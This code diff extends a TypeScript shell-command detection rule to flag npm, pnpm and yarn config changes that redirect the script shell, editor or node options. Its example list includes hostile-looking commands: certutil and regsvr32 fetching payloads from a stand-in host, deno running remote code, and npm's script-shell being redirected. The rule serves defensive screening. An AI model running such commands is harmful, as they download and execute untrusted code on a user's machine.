@@ -1,7 +1,7 @@
 import type { Call } from '../shell/call.ts';
 import { knownArgs } from '../shell/call.ts';
 import { assignedPairs, commandTexts, EXPORTERS, OPTION_PROGRAMS } from '../shell/command-options.ts';
-import { asksHelp, fieldHit } from './matching.ts';
+import { asksHelp, fieldHit, isVerb, operandsOf } from './matching.ts';
 import type { Hit, Rule } from './rule.ts';
 
 function runsOption(call: Call): Hit {
@@ -82,6 +82,15 @@ function loadsLibrary(call: Call): Hit {
       return args.some((arg) => /^[-/](?:decode|decodehex|urlcache|verifyctl)$/i.test(arg));
     case 'bitsadmin':
       return args.some((arg) => /^\/(?:transfer|addfile|setnotifycmdline)$/i.test(arg));
+    case 'npm':
+    case 'pnpm':
+    case 'yarn':
+      return (
+        isVerb(operandsOf(call), ['config|c set', 'set']) &&
+        args.some((arg) =>
+          /^(?:script-shell|shell|editor|viewer|browser|git|node-options|init-module|onload-script)(?:=|$)/.test(arg),
+        )
+      );
     case 'git':
       return call.args.some(({ text }) => /^--exec-path=./.test(text));
     case 'deno':
@@ -171,6 +180,9 @@ export const optionRules: readonly Rule[] = [
       'bitsadmin',
       'deno',
       'git',
+      'npm',
+      'pnpm',
+      'yarn',
     ],
     test: loadsLibrary,
     why: 'loads code from a file or an address into an ordinary program',
@@ -179,6 +191,7 @@ export const optionRules: readonly Rule[] = [
       'rundll32 x.dll,Start',
       'deno run https://x.example/a.ts',
       'git --exec-path=/tmp/x status',
+      'npm config set script-shell ./x',
       'certutil -urlcache -f http://x.example/a a.exe',
       'regsvr32 /s /u /i:http://x.example/a scrobj.dll',
     ],
@@ -186,6 +199,7 @@ export const optionRules: readonly Rule[] = [
       'ssh-keygen -t ed25519',
       'ssh-add -l',
       'git --exec-path',
+      'npm config set registry https://r.example',
       'deno run main.ts',
       'certutil -hashfile a SHA256',
       'php -d memory_limit=1G a.php',
